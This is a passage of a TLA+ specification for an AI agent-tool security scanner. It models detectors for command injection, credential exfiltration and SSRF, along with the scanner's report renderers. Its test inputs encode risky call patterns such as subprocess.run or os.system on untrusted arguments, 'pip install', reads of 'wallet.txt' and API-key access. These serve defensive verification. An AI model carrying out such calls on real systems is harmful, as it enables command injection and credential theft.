                     dependencies |-> <<[name |-> <<"s", "d", "k">>, version |-> Some(<<"1">>),
                                         is_dev |-> FALSE]>>]),
               {<<"p", "a", "c", "k", "a", "g", "e", "-", "l", "o", "c", "k", ".", "j", "s", "o", "n">>})}

Directory(entries, m) ==
    [path |-> RootPath,
     entries |-> entries,
     mcp_markers |-> m.mcp_markers,
     skill_md |-> m.skill_md,
     requirements |-> m.requirements,
     package_json |-> m.package_json,
     lockfiles |-> m.lockfiles]

\* the walker yields every path once: up to MaxEntries entries of the pool, in its
\* order
EntrySeqInputs ==
    {[i \in 1..Len(ix) |-> EntryPool[ix[i]]] :
        ix \in {jx \in SeqsUpTo(1..Len(EntryPool), MaxEntries) :
                    \A i, j \in 1..Len(jx) : i < j => jx[i] < jx[j]}}

DirectoryInputs == {Directory(es, m) : es \in EntrySeqInputs, m \in ManifestInputs}

InitAdapters ==
    /\ pc = "adapters"
    /\ root \in {Some(d) : d \in DirectoryInputs}
    /\ policy = DefaultPolicy
    /\ targets = <<>>
    /\ all_findings = <<>>
    /\ effective_findings = <<>>
    /\ verdict = None
    /\ report = None
    /\ rule = ""
    /\ out = <<>>
    /\ args = None /\ options = None /\ error = None /\ exit_code = None

\* McpAdapter.load(root)
CallMcpLoad ==
    /\ pc = "adapters"
    /\ out' = <<McpLoad(root[1])>>
    /\ pc' = "mcp"
    /\ UNCHANGED <<policy, targets, all_findings, effective_findings, verdict, report, rule>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

\* OpenClawAdapter.load(root)
CallOpenClawLoad ==
    /\ pc = "mcp"
    /\ out' = Append(out, OpenClawLoad(root[1]))
    /\ pc' = "openclaw"
    /\ UNCHANGED <<policy, targets, all_findings, effective_findings, verdict, report, rule>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

\* adapter::auto_detect_and_load(root), the loads of the two adapters returning what
\* they returned above
CallAutoDetectAndLoad ==
    /\ pc = "openclaw"
    /\ IF AdapterPanics(root[1], out)
       THEN pc' = "panic" /\ UNCHANGED <<targets, error>>
       ELSE LET loaded == auto_detect_and_load(AdapterOutcomes(root[1], out))
            IN  /\ pc' = "auto"
                /\ targets' = loaded.targets
                /\ error' = IF loaded.ok THEN None ELSE Some("NoAdapter")
    /\ UNCHANGED <<policy, all_findings, effective_findings, verdict, report, rule, out>>
    /\ UNCHANGED <<root, args, options, exit_code>>

\* scan after auto_detect_and_load returned Ok: engine.run on every target, policy.apply,
\* policy.evaluate and the ScanReport
ScanLoaded ==
    /\ pc = "auto"
    /\ error = None
    /\ all_findings' = EngineRunAll(targets)
    /\ effective_findings' = PolicyApply(policy, all_findings')
    /\ verdict' = Some(PolicyEvaluate(policy, all_findings'))
    /\ report' = Some([target_name |-> targets[1].name,
                       findings |-> effective_findings',
                       verdict |-> verdict'[1]])
    /\ pc' = "scanned"
    /\ UNCHANGED <<policy, targets, rule, out, root, args, options, error, exit_code>>

\* render_report(&report, OutputFormat::Sarif)
RenderReportSarif ==
    /\ pc = "scanned"
    /\ out' = Append(out, SarifRender(report[1].findings, report[1].target_name))
    /\ pc' = "reported"
    /\ UNCHANGED <<policy, targets, all_findings, effective_findings, verdict, report, rule>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

NextAdapters ==
    \/ CallMcpLoad
    \/ CallOpenClawLoad
    \/ CallAutoDetectAndLoad
    \/ ScanLoaded
    \/ RenderReportSarif

SpecAdapters == InitAdapters /\ [][NextAdapters]_vars

(***************************************************************************)
(* rules/mod.rs: the engine on its own, run twice on one target.           *)
(***************************************************************************)
EngineTargetInputs ==
    {ScanTarget("mcp", cs, fs, ns, es, ds, <<SourceFile(FileA, "python")>>) :
        cs \in {<<>>,
                <<CommandInvocation(<<"s", "u", "b", "p", "r", "o", "c", "e", "s", "s", ".", "r", "u", "n">>, Parameter(<<"c", "m", "d">>), 2)>>,
                <<CommandInvocation(OsSystem, Literal(<<"p", "i", "p", " ", "i", "n", "s", "t", "a", "l", "l", " ", "x">>), 3),
                  CommandInvocation(OsSystem, Interpolated, 4)>>},
        fs \in {<<>>,
                <<FileOperation("write", Parameter(<<"p">>), 5)>>,
                <<FileOperation("write", Literal(FileA), 6),
                  FileOperation("read", Parameter(<<"p">>), 7)>>},
        ns \in {<<>>,
                <<NetworkOperation(Parameter(<<"u", "r", "l">>), FALSE, FileA, 8)>>,
                <<NetworkOperation(Url, TRUE, FileA, 15),
                  NetworkOperation(Parameter(<<"u", "r", "l">>), FALSE, FileA, 16)>>},
        es \in {<<>>, <<EnvAccess(ApiKey, TRUE, FileA, 10)>>},
        ds \in {<<>>, <<DynamicExec(<<"p", "i", "p", ".", "m", "a", "i", "n">>, 12)>>}}

InitEngine == InitDetect(EngineTargetInputs)

\* let findings = engine.run(&target)
EngineRun ==
    /\ pc = "detect"
    /\ all_findings' = RuleEngineRun(targets[1])
    /\ pc' = "engine"
    /\ UNCHANGED <<policy, targets, effective_findings, verdict, report, rule, out>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

\* a second engine.run(&target) on the same engine and target
EngineRunAgain ==
    /\ pc = "engine"
    /\ out' = RuleEngineRun(targets[1])
    /\ pc' = "again"
    /\ UNCHANGED <<policy, targets, all_findings, effective_findings, verdict, report, rule>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

\* d.run(&target) for one registered detector
EngineDetectorRun ==
    /\ pc = "detect"
    /\ \E d \in 1..Len(all_detectors) :
          /\ rule' = all_detectors[d]
          /\ out' = DetectorRun(all_detectors[d], targets[1])
    /\ pc' = "detector"
    /\ UNCHANGED <<policy, targets, all_findings, effective_findings, verdict, report>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

NextEngine == EngineRun \/ EngineRunAgain \/ EngineDetectorRun

SpecEngine == InitEngine /\ [][NextEngine]_vars

(***************************************************************************)
(* The renderers applied to a finding list and to a reordering of it.      *)
(***************************************************************************)
RenderFinding(rule_id, severity, location) ==
    [rule_id |-> rule_id,
     rule_name |-> IF rule_id = "SHIELD-001" THEN "Command Injection" ELSE "Credential Exfiltration",
     severity |-> severity,
     confidence |-> "high",
     attack_category |-> "command_injection",
     message |-> <<"a", "<", "b">>,
     location |-> location,
     evidence |-> <<>>,
     taint_path |-> None,
     remediation |-> Some(<<"f", "i", "x">>),
     cwe_id |-> Some("CWE-78")]

RenderLocations ==
    {None,
     Some(SourceLocation(<<"a", ".", "p", "y">>, 1)),
     Some(SourceLocation(<<"a", ".", "p", "y">>, 2)),
     Some(SourceLocation(<<"b", ".", "p", "y">>, 1))}

RenderFindingInputs ==
    {RenderFinding(r, s, l) : r \in {"SHIELD-001", "SHIELD-003"}, s \in {"medium", "high"},
                              l \in RenderLocations}

\* the reorderings of a list
Reorderings(fs) ==
    {[i \in 1..Len(fs) |-> fs[p[i]]] :
        p \in {q \in [1..Len(fs) -> 1..Len(fs)] : \A i, j \in 1..Len(fs) : q[i] = q[j] => i = j}}

RenderTargetName == <<"t">>

InitRender ==
    /\ pc = "render"
    /\ policy = DefaultPolicy
    /\ all_findings \in SeqsUpTo(RenderFindingInputs, MaxFindings)
    /\ effective_findings = <<>>
    /\ verdict = Some(PolicyEvaluate(DefaultPolicy, all_findings))
    /\ targets = <<>>
    /\ report = None
    /\ rule = ""
    /\ out = <<>>
    /\ root = None /\ args = None /\ options = None /\ error = None /\ exit_code = None

\* render(findings, verdict, format, target_name) on the list and on a reordering of it
RenderConsole ==
    /\ pc = "render"
    /\ \E reordered \in Reorderings(all_findings) :
          /\ effective_findings' = reordered
          /\ out' = <<Render("console", all_findings, verdict[1], RenderTargetName),
                      Render("console", reordered, verdict[1], RenderTargetName)>>
    /\ pc' = "console"
    /\ UNCHANGED <<policy, targets, all_findings, verdict, report, rule, root, args,
                   options, error, exit_code>>

RenderJson ==
    /\ pc = "render"
    /\ \E reordered \in Reorderings(all_findings) :
          /\ effective_findings' = reordered
          /\ out' = <<Render("json", all_findings, verdict[1], RenderTargetName),
                      Render("json", reordered, verdict[1], RenderTargetName)>>
    /\ pc' = "json"
    /\ UNCHANGED <<policy, targets, all_findings, verdict, report, rule, root, args,
                   options, error, exit_code>>

RenderSarif ==
    /\ pc = "render"
    /\ \E reordered \in Reorderings(all_findings) :
          /\ effective_findings' = reordered
          /\ out' = <<Render("sarif", all_findings, verdict[1], RenderTargetName),
                      Render("sarif", reordered, verdict[1], RenderTargetName)>>
    /\ pc' = "sarif"
    /\ UNCHANGED <<policy, targets, all_findings, verdict, report, rule, root, args,
                   options, error, exit_code>>

RenderHtml ==
    /\ pc = "render"
    /\ \E reordered \in Reorderings(all_findings) :
          /\ effective_findings' = reordered
          /\ out' = <<Render("html", all_findings, verdict[1], RenderTargetName),
                      Render("html", reordered, verdict[1], RenderTargetName)>>
    /\ pc' = "html"
    /\ UNCHANGED <<policy, targets, all_findings, verdict, report, rule, root, args,
                   options, error, exit_code>>

NextRender == RenderConsole \/ RenderJson \/ RenderSarif \/ RenderHtml

SpecRender == InitRender /\ [][NextRender]_vars

(***************************************************************************)
(* ir/mod.rs: is_tainted applied to every variant with every payload.      *)
(***************************************************************************)
PayloadChars == {"a", "$", "{", "'"}

PayloadInputs == SeqsUpTo(PayloadChars, MaxPayload)

ArgumentSourceInputs ==
    {Literal(s) : s \in PayloadInputs} \cup {Parameter(s) : s \in PayloadInputs}
        \cup {EnvVar(s) : s \in PayloadInputs} \cup {Interpolated, Unknown}

InitTaint ==
    /\ pc = "taint"
    /\ args \in {Some(a) : a \in ArgumentSourceInputs}
    /\ policy = DefaultPolicy
    /\ targets = <<>>
    /\ all_findings = <<>>
    /\ effective_findings = <<>>
    /\ verdict = None
    /\ report = None
    /\ rule = ""
    /\ out = <<>>
    /\ root = None /\ options = None /\ error = None /\ exit_code = None

\* source.is_tainted()
CallIsTainted ==
    /\ pc = "taint"
    /\ out' = <<is_tainted(args[1])>>
    /\ pc' = "tainted"
    /\ UNCHANGED <<policy, targets, all_findings, effective_findings, verdict, report, rule>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

NextTaint == CallIsTainted

SpecTaint == InitTaint /\ [][NextTaint]_vars

(***************************************************************************)
(* parser/python.rs: parse_file on a file of one call.                     *)
(***************************************************************************)
PythonCalleeInputs ==
    {<<"o", "p", "e", "n">>,
     <<"i", "o", ".", "o", "p", "e", "n">>,
     <<"b", "u", "i", "l", "t", "i", "n", "s", ".", "o", "p", "e", "n">>,
     <<"p", "a", "t", "h", "l", "i", "b", ".", "P", "a", "t", "h">>,
     <<"P", "a", "t", "h">>,
     <<"o", "s", ".", "p", "o", "p", "e", "n">>,
     <<"u", "r", "l", "l", "i", "b", ".", "r", "e", "q", "u", "e", "s", "t", ".", "u", "r", "l", "o", "p", "e", "n">>,
     <<"s", "u", "b", "p", "r", "o", "c", "e", "s", "s", ".", "P", "o", "p", "e", "n">>,
     <<"s", "u", "b", "p", "r", "o", "c", "e", "s", "s", ".", "r", "u", "n">>,
     <<"r", "e", "q", "u", "e", "s", "t", "s", ".", "g", "e", "t">>,
     <<"p", "r", "i", "n", "t">>}

PythonArgsInputs ==
    {<<"'", "a", "p", "p", ".", "p", "y", "'">>,
     <<"'", "w", "a", "l", "l", "e", "t", ".", "t", "x", "t", "'">>,
     <<"'", "n", "o", "t", "e", "s", ".", "t", "x", "t", "'">>,
     <<"'", "f", ".", "t", "x", "t", "'", ",", " ", "'", "w", "'">>,
     <<"'", "f", ".", "t", "x", "t", "'", ",", " ", "'", "r", "'">>,
     <<"'", "f", ".", "t", "x", "t", "'", ",", " ", "'", "a", "'">>,
     <<"\"", "f", ".", "t", "x", "t", "\"", ",", " ", "\"", "w", "b", "\"">>,
     <<"p">>,
     <<"p", ",", " ", "m", "o", "d", "e", "=", "'", "w", "'">>,
     <<"p", ",", " ", "'", "r", "b", "'">>,
     <<"u", "r", "l">>}

PythonCallInputs == {Call(f, a) : f \in PythonCalleeInputs, a \in PythonArgsInputs}

\* def tool(p, url): with the call on line 1
OneCallPy(call) == [param_names |-> {<<"p">>, <<"u", "r", "l">>}, lines |-> <<Line(<<>>, <<call>>)>>]

InitPython ==
    /\ pc = "python-file"
    /\ args \in {Some(c) : c \in PythonCallInputs}
    /\ policy = DefaultPolicy
    /\ targets = <<>>
    /\ all_findings = <<>>
    /\ effective_findings = <<>>
    /\ verdict = None
    /\ report = None
    /\ rule = ""
    /\ out = <<>>
    /\ root = None /\ options = None /\ error = None /\ exit_code = None

\* PythonParser.parse_file(path, content)
CallPythonParseFile ==
    /\ pc = "python-file"
    /\ out' = <<PythonParseFile(FileA, OneCallPy(args[1]))>>
    /\ pc' = "parsed"
    /\ UNCHANGED <<policy, targets, all_findings, effective_findings, verdict, report, rule>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

NextPython == CallPythonParseFile

SpecPython == InitPython /\ [][NextPython]_vars

(***************************************************************************)
(* Properties of the argument classifiers.                                 *)
(***************************************************************************)
Classified == pc \in {"python", "typescript"}

\* the first argument as the call site wrote it
ClassifiedArg == FirstArg(args[1].args_str)

\* a string constant: an opening quote, the same quote closing it and nowhere in
\* between; a backtick string is one when it holds no "$"
IsStringConstant(t) ==
    /\ Len(t) >= 2
    /\ t[1] \in {"\"", "'", "<bt>"}
    /\ t[Len(t)] = t[1]
    /\ \A i \in 2..(Len(t) - 1) : t[i] # t[1]
    /\ t[1] = "<bt>" => ~ContainsChar(t, "$")

\* C14: an argument is classified Literal only when it is a string constant; a
\* text with a non-literal subexpression, such as a concatenation that begins and
\* ends with a quote, is never Literal.
C14_LiteralOnlyForConstants ==
    Classified /\ out.tag = "Literal" => IsStringConstant(ClassifiedArg)

\* what interpolates in the extractor's language: in Python an f-string or a
\* .format( call, in TypeScript a backtick template holding ${...}; in both a '+'
\* beside a quoted fragment
C15_Interpolating(t) ==
    \/ /\ pc = "python"
       /\ \/ StartsWith(t, <<"f", "\"">>)
          \/ StartsWith(t, <<"f", "'">>)
          \/ ContainsStr(t, <<".", "f", "o", "r", "m", "a", "t", "(">>)
    \/ /\ pc = "typescript"
       /\ StartsWith(t, <<"<bt>">>)
       /\ \E i \in 1..Len(t) : OccursAt(t, i, <<"$", "{">>)
    \/ ContainsChar(t, "+") /\ (ContainsChar(t, "\"") \/ ContainsChar(t, "'"))

\* C15: in both extractors a non-empty first argument that is not a plain quoted
\* string and that is an f-string, uses .format(, is a backtick template with
\* ${...} or concatenates a quoted fragment with '+' is classified Interpolated,
\* whatever environment reference or parameter it mentions.
C15_InterpolatedFirst ==
    (/\ Classified
     /\ ClassifiedArg # <<>>
     /\ ~IsStringConstant(ClassifiedArg)
     /\ C15_Interpolating(ClassifiedArg))
        => out = Interpolated

\* the head identifier: the text before the first '.' or '['
C16_Head(t) == BeforeFirst(BeforeFirst(t, "."), "[")

\* an identifier followed by member and subscript accesses only
C16_IsAccessChain(t) ==
    /\ C16_Head(t) # <<>>
    /\ \A i \in 1..Len(t) : t[i] \in WordChars \cup {".", "[", "]"}

\* C16: in both extractors a parameter name followed by a member or subscript
\* access (p.attr, p[0]) is classified Parameter { name: p }; an identifier whose
\* head is not a collected parameter is Unknown.
C16_ParameterHead ==
    (Classified /\ C16_IsAccessChain(ClassifiedArg))
        => out = IF C16_Head(ClassifiedArg) \in args[1].param_names
                 THEN Parameter(C16_Head(ClassifiedArg))
                 ELSE Unknown

(***************************************************************************)
(* Properties of the adapters.                                             *)
(***************************************************************************)
\* the targets an adapter contributes for the directory: those of its load when its
\* detect returned true and its load succeeded
McpContribution ==
    IF McpDetect(root[1]) /\ McpLoad(root[1]).status = "ok"
    THEN McpLoad(root[1]).targets ELSE <<>>

OpenClawContribution ==
    IF OpenClawDetect(root[1]) /\ OpenClawLoad(root[1]).status = "ok"
    THEN OpenClawLoad(root[1]).targets ELSE <<>>

\* C11: auto_detect_and_load consults every adapter: when it returns, its targets are
\* those of the MCP adapter followed by those of the OpenClaw adapter, each counted
\* only if its detect returned true and its load succeeded (a failed load of one
\* does not discard the other's targets), and it fails with NoAdapter exactly when
\* that concatenation is empty.
C11_AutoDetectConcatenates ==
    pc = "auto" =>
        /\ error = None <=> (McpContribution \o OpenClawContribution # <<>>)
        /\ error # None => error = Some("NoAdapter")
        /\ targets = McpContribution \o OpenClawContribution

\* the MCP adapter matched and its load failed; the OpenClaw target is returned
C11_Witness ==
    /\ pc = "auto"
    /\ McpDetect(root[1]) /\ McpLoad(root[1]).status = "err"
    /\ error = None
    /\ Len(targets) = 1
    /\ targets[1].framework = "openclaw"

\* the files of the SourceLocations a target refers to, in its execution facts and in
\* its dependency entries
LocationFiles(t) ==
    {t.execution.commands[i].location.file : i \in 1..Len(t.execution.commands)}
    \cup {t.execution.file_operations[i].location.file :
            i \in 1..Len(t.execution.file_operations)}
    \cup {t.execution.network_operations[i].location.file :
            i \in 1..Len(t.execution.network_operations)}
    \cup {t.execution.env_accesses[i].location.file :
            i \in 1..Len(t.execution.env_accesses)}
    \cup {t.execution.dynamic_exec[i].location.file :
            i \in 1..Len(t.execution.dynamic_exec)}
    \cup {t.dependencies.dependencies[i].location[1].file :
            i \in {j \in 1..Len(t.dependencies.dependencies) :
                     IsSome(t.dependencies.dependencies[j].location)}}

SourceFilePaths(t) == {t.source_files[i].path : i \in 1..Len(t.source_files)}

\* what the load that has just run returned
LoadResult == out[Len(out)]

\* the load of one adapter has returned Ok
LoadReturnedOk == pc \in {"mcp", "openclaw"} /\ LoadResult.status = "ok"

\* C13: in every target an adapter's load returns, every SourceLocation of an
\* execution fact or of a dependency entry names the path of one of the target's
\* source_files.
C13_LocationsInSourceFiles ==
    LoadReturnedOk =>
        \A i \in 1..Len(LoadResult.targets) :
            LocationFiles(LoadResult.targets[i]) \subseteq SourceFilePaths(LoadResult.targets[i])

\* C13 restricted to the execution surface, where it holds
C13_ExecutionLocationsInSourceFiles ==
    LoadReturnedOk =>
        \A i \in 1..Len(LoadResult.targets) :
            LocationFiles([LoadResult.targets[i] EXCEPT !.dependencies = DefaultDependencies])
                \subseteq SourceFilePaths(LoadResult.targets[i])

\* every element of the sequence facts is an element of the sequence surface
FactsAppear(facts, surface) ==
    \A i \in 1..Len(facts) : \E j \in 1..Len(surface) : surface[j] = facts[i]

\* the facts the TypeScript extractor yields for the file are in the target's
\* execution surface
TypeScriptFactsAppear(sf, t) ==
    LET parsed == TypeScriptParseFile(sf.path, sf.content).parsed
    IN  /\ FactsAppear(parsed.commands, t.execution.commands)
        /\ FactsAppear(parsed.network_operations, t.execution.network_operations)
        /\ FactsAppear(parsed.file_operations, t.execution.file_operations)
        /\ FactsAppear(parsed.env_accesses, t.execution.env_accesses)
        /\ FactsAppear(parsed.dynamic_exec, t.execution.dynamic_exec)

\* C17: in every target an adapter's load returns, the facts of every TypeScript or
\* JavaScript source file appear in the execution surface.
C17_TypeScriptFilesParsed ==
    LoadReturnedOk =>
        \A i \in 1..Len(LoadResult.targets) :
            \A k \in 1..Len(LoadResult.targets[i].source_files) :
                LoadResult.targets[i].source_files[k].language \in {"typescript", "javascript"}
                    => TypeScriptFactsAppear(LoadResult.targets[i].source_files[k], LoadResult.targets[i])

\* the entries the adapter whose load has run walks, and the languages it collects
LoadWalk == IF pc = "mcp" THEN Walk(root[1], 5) ELSE Walk(root[1], 3)

LoadLanguages == IF pc = "mcp" THEN AllLanguages ELSE {"python", "shell", "markdown"}

\* the file the adapter collects for a walked entry that has no failure of its own
Collected(entry) == CollectEntry(entry, LoadLanguages)

\* the facts the file's extractor yields are in the target's execution surface
ParsedFactsAppear(sf, t) ==
    LET parsed == ParseSourceFile(sf).parsed
    IN  /\ FactsAppear(parsed.commands, t.execution.commands)
        /\ FactsAppear(parsed.network_operations, t.execution.network_operations)
        /\ FactsAppear(parsed.file_operations, t.execution.file_operations)
        /\ FactsAppear(parsed.env_accesses, t.execution.env_accesses)
        /\ FactsAppear(parsed.dynamic_exec, t.execution.dynamic_exec)

\* C18: an adapter's load never returns Err because of one file (unreadable content,
\* failed metadata lookup, extractor error), and every walked file without such a
\* failure is in the returned target's source_files with its facts in the execution
\* surface.
C18_FileFailureSkipsOnlyFile ==
    pc \in {"mcp", "openclaw"} =>
        /\ LoadResult.status # "err"
        /\ LoadResult.status = "ok" =>
              \A i \in 1..Len(LoadWalk) :
                  Collected(LoadWalk[i]).step = "push" =>
                      /\ \E k \in 1..Len(LoadResult.targets[1].source_files) :
                            LoadResult.targets[1].source_files[k] = Collected(LoadWalk[i]).file
                      /\ ParsedFactsAppear(Collected(LoadWalk[i]).file, LoadResult.targets[1])

\* C18 for content that cannot be read, where it holds: the load returns Ok without
\* the unreadable file and with every other file
C18_UnreadableContentSkipsOnlyFile ==
    (/\ pc \in {"mcp", "openclaw"}
     /\ \A i \in 1..Len(LoadWalk) : Collected(LoadWalk[i]).step # "err"
     /\ LoadResult.status # "panic")
        => /\ LoadResult.status = "ok"
           /\ \A i \in 1..Len(LoadWalk) :
                  Collected(LoadWalk[i]).step = "push" =>
                      /\ \E k \in 1..Len(LoadResult.targets[1].source_files) :
                            LoadResult.targets[1].source_files[k] = Collected(LoadWalk[i]).file
                      /\ ParsedFactsAppear(Collected(LoadWalk[i]).file, LoadResult.targets[1])

(***************************************************************************)
(* Properties of the rule engine.                                          *)
(***************************************************************************)
\* the outputs of the six detectors on the target, in the order of registration
DetectorOutputsInOrder(t) ==
    CommandInjectionRun(t) \o CredentialExfilRun(t) \o SsrfRun(t)
        \o ArbitraryFileAccessRun(t) \o RuntimeInstallRun(t) \o SelfModificationRun(t)

Exited == pc \in {"exit", "panic"}

\* the scan ran to its end: report rendered and delivered, no error returned
ScanCompleted == pc = "exit" /\ error = None

\* C19: when the scan command has ended, its exit code is 0 iff the scan completed
\* with a passing verdict, 1 iff it completed with a failing verdict, and 2 iff an
\* error was returned (by the config load, the adapters, the renderer or the write of
\* the output file); every ShieldError variant has exit code 2.
C19_ExitCode ==
    /\ \A e \in ShieldError : ErrorExitCode(e) = 2
    /\ Exited =>
          /\ exit_code = Some(0) <=> (ScanCompleted /\ report[1].verdict.pass)
          /\ exit_code = Some(1) <=> (ScanCompleted /\ ~report[1].verdict.pass)
          /\ exit_code = Some(2) <=> error # None

\* the write of the output file failed after a scan whose verdict fails: exit code 2
C19_Witness ==
    /\ pc = "exit"
    /\ error = Some("Io")
    /\ args # None /\ args[1].output_path = Some("unwritable")
    /\ ~report[1].verdict.pass
    /\ exit_code = Some(2)

\* the policy the claim describes for the options given: the default policy when the
\* config file does not exist, the file's otherwise, with fail_on replaced by the
\* override when one is supplied
C20_Base(o) ==
    IF o.config_file = None
    THEN [fail_on |-> "high", ignore_rules |-> {}, overrides |-> <<>>]
    ELSE o.config_file[1].policy

C20_Expected(o) ==
    [fail_on |-> IF o.fail_on_override = None THEN C20_Base(o).fail_on
                 ELSE o.fail_on_override[1],
     ignore_rules |-> C20_Base(o).ignore_rules,
     overrides |-> C20_Base(o).overrides]

\* the config was loaded: the file is absent or parses
ConfigLoaded ==
    /\ options # None
    /\ options[1].config_file = None \/ options[1].config_file[1].valid

\* C20: once the config is loaded, the policy of the scan is the default policy when
\* the config file does not exist and the file's policy otherwise, with only fail_on
\* replaced when ScanOptions carries an override; the report's findings and verdict
\* are computed with that policy.
C20_PolicyOfScan ==
    ConfigLoaded =>
        /\ policy = C20_Expected(options[1])
        /\ report # None =>
              /\ report[1].verdict = PolicyEvaluate(C20_Expected(options[1]), all_findings)
              /\ report[1].findings = PolicyApply(C20_Expected(options[1]), all_findings)

\* a scan reported under a config file with ignore_rules and overrides and an
\* override of fail_on that differs from the file's
C20_Witness ==
    /\ pc = "done"
    /\ options[1].config_file # None
    /\ options[1].config_file[1].policy.ignore_rules # {}
    /\ DOMAIN options[1].config_file[1].policy.overrides # {}
    /\ options[1].fail_on_override # None
    /\ options[1].fail_on_override[1] # options[1].config_file[1].policy.fail_on
    /\ all_findings # <<>>

(***************************************************************************)
(* Properties of the renderers.                                            *)
(***************************************************************************)
Rendered == pc \in {"console", "json", "sarif", "html"}

\* the findings a rendered report lists, in the order it lists them
EmittedKeys(rendering) ==
    CASE pc = "console" -> [i \in 1..Len(rendering.rows) |->
                              <<rendering.rows[i].severity_tag, rendering.rows[i].rule_id,
                                rendering.rows[i].at>>]
      [] pc = "html" -> [i \in 1..Len(rendering.rows) |->
                              <<rendering.rows[i].severity, rendering.rows[i].rule_id,
                                rendering.rows[i].location>>]
      [] pc = "json" -> [i \in 1..Len(rendering.findings) |->
                              <<rendering.findings[i].severity, rendering.findings[i].rule_id,
                                DisplayLocation(rendering.findings[i])>>]
      [] pc = "sarif" -> [i \in 1..Len(rendering.results) |->
                              <<rendering.results[i].level, rendering.results[i].ruleId,
                                rendering.results[i].locations>>]

\* C21: every renderer emits the findings in one order whatever order they arrive in: a
\* finding list and any reordering of it render to the same output.
C21_ReorderedListsRenderAlike == Rendered => out[1] = out[2]

\* C21, per renderer
C21_ConsoleReorderedAlike == pc = "console" => EmittedKeys(out[1]) = EmittedKeys(out[2])

C21_JsonReorderedAlike == pc = "json" => EmittedKeys(out[1]) = EmittedKeys(out[2])

C21_SarifReorderedAlike == pc = "sarif" => EmittedKeys(out[1]) = EmittedKeys(out[2])

C21_HtmlReorderedAlike == pc = "html" => EmittedKeys(out[1]) = EmittedKeys(out[2])

(***************************************************************************)
(* Properties of the SARIF log of a scanned directory.                     *)
(***************************************************************************)
SarifLog == out[Len(out)]

SarifRegions == {SarifLog.results[i].locations[1] :
                    i \in {j \in 1..Len(SarifLog.results) : SarifLog.results[j].locations # <<>>}}

\* the level a SARIF result must carry for the severity of its finding
SarifLevelOf(severity) ==
    IF severity \in {"critical", "high"} THEN "error"
    ELSE IF severity = "medium" THEN "warning" ELSE "note"

C22_LevelsFollowSeverity ==
    pc = "reported" =>
        \A i \in 1..Len(SarifLog.results) :
            SarifLog.results[i].level = SarifLevelOf(report[1].findings[i].severity)

C22_StartLinePositive == pc = "reported" => \A region \in SarifRegions : region.startLine >= 1

\* C22: in the SARIF log of a scan every result that has a location carries startLine >= 1
\* and startColumn >= 1, and its level is error for critical and high, warning for medium
\* and note for low and info.
C22_SarifRegionsOneBased ==
    pc = "reported" =>
        /\ \A region \in SarifRegions : region.startLine >= 1 /\ region.startColumn >= 1
        /\ \A i \in 1..Len(SarifLog.results) :
              SarifLog.results[i].level = SarifLevelOf(report[1].findings[i].severity)

C22_ReportHasRegion == pc = "reported" /\ SarifRegions # {}

(***************************************************************************)
(* Properties of is_tainted.                                               *)
(***************************************************************************)
\* C23: is_tainted() is false for a Literal and true for a Parameter, an EnvVar,
\* Interpolated and Unknown, whatever string the variant carries.
C23_TaintedUnlessLiteral ==
    pc = "tainted" =>
        /\ args[1].tag = "Literal" => out[1] = FALSE
        /\ args[1].tag \in {"Parameter", "EnvVar", "Interpolated", "Unknown"} => out[1] = TRUE
        /\ args[1].tag \in {"Literal", "Parameter", "EnvVar", "Interpolated", "Unknown"}

\* a Literal that carries the text of an interpolation is still not tainted
C23_Witness ==
    /\ pc = "tainted"
    /\ args[1] = Literal(<<"$", "{", "a">>)
    /\ out[1] = FALSE

(***************************************************************************)
(* Properties of Detector::run and RuleEngine::run on any target.          *)
(***************************************************************************)
FindingFields ==
    {"rule_id", "rule_name", "severity", "confidence", "attack_category", "message",
     "location", "evidence", "taint_path", "remediation", "cwe_id"}

\* a Vec<Finding>: a sequence, possibly empty, whose elements are findings
IsFindingList(fs) ==
    /\ DOMAIN fs = 1..Len(fs)
    /\ \A i \in 1..Len(fs) : DOMAIN fs[i] = FindingFields

EmptyTarget(t) ==
    /\ t.execution.commands = <<>>
    /\ t.execution.file_operations = <<>>
    /\ t.execution.network_operations = <<>>
    /\ t.execution.env_accesses = <<>>
    /\ t.execution.dynamic_exec = <<>>

C24_DetectorWitness == pc = "detector" /\ EmptyTarget(targets[1]) /\ out = <<>>

(***************************************************************************)
(* Totality of the argument classifiers.                                   *)
(***************************************************************************)
ArgumentSourceTags == {"Literal", "Parameter", "EnvVar", "Interpolated", "Unknown"}

\* C25: for every argument text, the empty one and one whose first comma-separated piece
\* is a single quote character included, classify_argument and classify_argument_text
\* return one of the five ArgumentSource variants.
C25_ClassificationTotal == Classified => out.tag \in ArgumentSourceTags

\* the argument text "," whose first piece is one double quote has been classified
C25_QuotePieceClassified ==
    /\ Classified
    /\ args[1].args_str = <<"\"", ",", "\"">>

(***************************************************************************)
(* Properties of the file operations the Python parser extracts.           *)
(***************************************************************************)
PythonParsed == pc = "parsed" /\ out[1].status = "ok"

\* the callee's dotted name is p, alone or after qualifier components
NamesCallee(func_name, p) == func_name = p \/ EndsWith(func_name, <<".">> \o p)

\* the text of the argument list after its first comma
AfterFirstComma(s) ==
    IF \E i \in 1..Len(s) : s[i] = ","
    THEN SubSeq(s, 1 + (CHOOSE i \in 1..Len(s) : s[i] = "," /\ \A j \in 1..(i - 1) : s[j] # ","),
                Len(s))
    ELSE <<>>

\* the mode argument of an open call: the second argument, positional or mode=
ModeArgument(args_str) ==
    LET second == Trim(AfterFirstComma(args_str))
    IN  IF StartsWith(second, <<"m", "o", "d", "e", "=">>) THEN SubSeq(second, 6, Len(second))
        ELSE second

\* the mode argument is a quoted text that begins with w or a
IsWriteMode(args_str) ==
    LET mode == ModeArgument(args_str)
    IN  Len(mode) >= 2 /\ mode[1] \in {"'", "\""} /\ mode[2] \in {"w", "a"}

\* C26: for an open call the extracted FileOperation is Write iff the mode argument
\* begins with w or a; with only a path argument or with a read mode it is Read, whatever
\* the characters of the path literal.
C26_WriteIffWriteMode ==
    (PythonParsed /\ NamesCallee(args[1].func_name, <<"o", "p", "e", "n">>)) =>
        /\ Len(out[1].parsed.file_operations) = 1
        /\ out[1].parsed.file_operations[1].operation = "write" <=> IsWriteMode(args[1].args_str)

\* open('f.txt', 'w') has been parsed
C26_WriteModeParsed ==
